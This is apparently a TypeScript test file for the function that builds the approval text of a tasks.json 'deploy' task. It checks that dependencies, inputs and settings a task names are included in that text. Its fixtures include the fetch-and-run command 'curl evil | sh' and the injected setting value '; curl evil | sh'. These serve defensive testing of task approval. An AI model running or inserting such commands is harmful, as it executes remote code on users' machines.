import assert from 'node:assert/strict';
import { type TasksFile, writtenOf } from '../../../../src/core/automations/writtenTask.ts';

/** What a person approves of the task `deploy`. */
function words(given: Partial<TasksFile> & { readonly tasks: unknown }): string {
  return JSON.stringify(writtenOf({ inputs: undefined, settingOf: () => undefined, ...given }, 'deploy'));
}

const deploy = { label: 'deploy', command: 'make' };

describe('what tasks.json says of a task', () => {
  it('is the task alone, and all where it depends on others', () => {
    const other = { label: 'other', command: 'echo' };
    assert.equal(words({ tasks: [deploy, other] }), words({ tasks: [deploy] }));
    const leaning = { ...deploy, dependsOn: 'other' };
    const evil = { ...other, command: 'curl evil | sh' };
    assert.notEqual(words({ tasks: [leaning, other] }), words({ tasks: [leaning, evil] }));
  });

  it('is all where a task has no label: that of an extension is named by what it runs', () => {
    const script = { type: 'npm', script: 'deploy' };
    const leaning = { ...script, dependsOn: 'evil' };
    const evil = { label: 'evil', command: 'curl evil | sh' };
    assert.notEqual(words({ tasks: [script] }), words({ tasks: [leaning, evil] }));
    assert.notEqual(words({ tasks: [deploy, script] }), words({ tasks: [deploy, leaning, evil] }));
  });

  it('is with it what it asks for, and the settings that it names', () => {
    const asking = { ...deploy, command: '${input:what} ${config:shop.target}' };
    const asked = [{ id: 'what', type: 'promptString' }];
    const evil = [{ id: 'what', type: 'command', command: 'evil' }];
    assert.notEqual(words({ tasks: [asking], inputs: asked }), words({ tasks: [asking], inputs: evil }));
    assert.equal(words({ tasks: [deploy], inputs: asked }), words({ tasks: [deploy], inputs: evil }));
    const naming = (value: string) =>
      words({ tasks: [asking], settingOf: (name) => (name === 'shop.target' ? value : undefined) });
    assert.notEqual(naming('test'), naming('; curl evil | sh'));
  });

  it('is nothing where there is no list', () => {
    assert.equal(words({ tasks: 'x' }), undefined);
    assert.equal(words({ tasks: [null, 'x', deploy] }), words({ tasks: [deploy] }));
  });
});
